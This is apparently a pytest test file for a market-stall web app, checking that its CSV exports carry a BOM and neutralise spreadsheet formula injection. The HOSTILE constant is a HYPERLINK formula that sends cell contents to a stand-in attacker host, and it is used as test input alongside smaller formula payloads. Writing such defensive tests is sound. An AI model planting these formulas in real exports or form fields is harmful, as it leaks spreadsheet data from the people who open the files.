"""Every CSV download: UTF-8 with a BOM, and no cell a spreadsheet would run as a formula."""

import csv
import io

import pytest

from bazaar.csv_export import csv_text, safe_cell
from bazaar.extensions import db
from bazaar.models import Category, Field, Role
from bazaar.services import stalls, statistics
from tests.conftest import NOW, reference_ids

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def read(response):
    """Check the BOM and return the rows of a CSV download."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def cells(rows):
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+98 912", "'+98 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+2", "'＝1+2"),
        ("ترشی =1", "ترشی =1"),
        ("a-b", "a-b"),
        (None, ""),
        (-5, -5),
        (12, 12),
        (2.5, 2.5),
    ],
)
def test_safe_cell_quotes_formula_starts_and_keeps_numbers(value, written):
    assert safe_cell(value) == written


def test_csv_text_has_a_bom_and_neutralises_the_header_too():
    text = csv_text(["=cmd"], [["@x", 3]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [["'=cmd"], ["'@x", "3"]]


def test_stall_export_neutralises_hostile_vendor_names(client, login_as, make_vendor, make_bazaar):
    bazaar = make_bazaar()
    vendor = make_vendor(business_name=HOSTILE, owner_name="@SUM(1)", health_id="+1-2")
    food = next(s for s in bazaar.stall_types if s.is_food)
    stalls.apply_for_stall(
        vendor.user, bazaar.id, food.id, [reference_ids(Category)["pickles"]], "", now=NOW
    )
    login_as(Role.ORGANISER)
    rows = read(client.get(f"/stalls/bazaar/{bazaar.id}.csv"))
    assert {"'" + HOSTILE, "'@SUM(1)", "'+1-2"} <= cells(rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells(rows))


def test_audit_export_neutralises_a_hostile_user_name(client, login_as):
    login_as(Role.ORGANISER, name="@SUM(1)")
    rows = read(client.get("/audit/export.csv"))
    assert "'@SUM(1)" in cells(rows)
    assert "@SUM(1)" not in cells(rows)


@pytest.fixture
def hostile_field(make_vendor):
    """A field of work named like a formula, with one verified vendor in it."""
    field = db.session.get(Field, reference_ids(Field)["pickles-jam"])
    field.name_fa, field.name_en = HOSTILE, "-1+1"
    db.session.commit()
    make_vendor(field="pickles-jam")
    return field


def test_statistics_export_neutralises_names_and_keeps_numbers(client, hostile_field):
    rows = read(client.get("/statistics/figures.csv"))
    # The first four columns: metric, name, label, value (definition and time follow).
    by_field = [row[:4] for row in rows if row[0] == "vendors_by_field" and row[2]]
    assert ["vendors_by_field", by_field[0][1], "'" + HOSTILE, "1"] in by_field
    assert all(row[3].lstrip("-").isdigit() for row in rows[1:] if row[3])


def test_snapshot_export_neutralises_names(client, organiser, hostile_field):
    snapshot = statistics.publish_snapshot(organiser, now=NOW)
    client.get("/language/en")
    rows = read(client.get(f"/statistics/snapshots/{snapshot.id}.csv"))
    assert "'-1+1" in cells(rows)
    assert "-1+1" not in cells(rows)
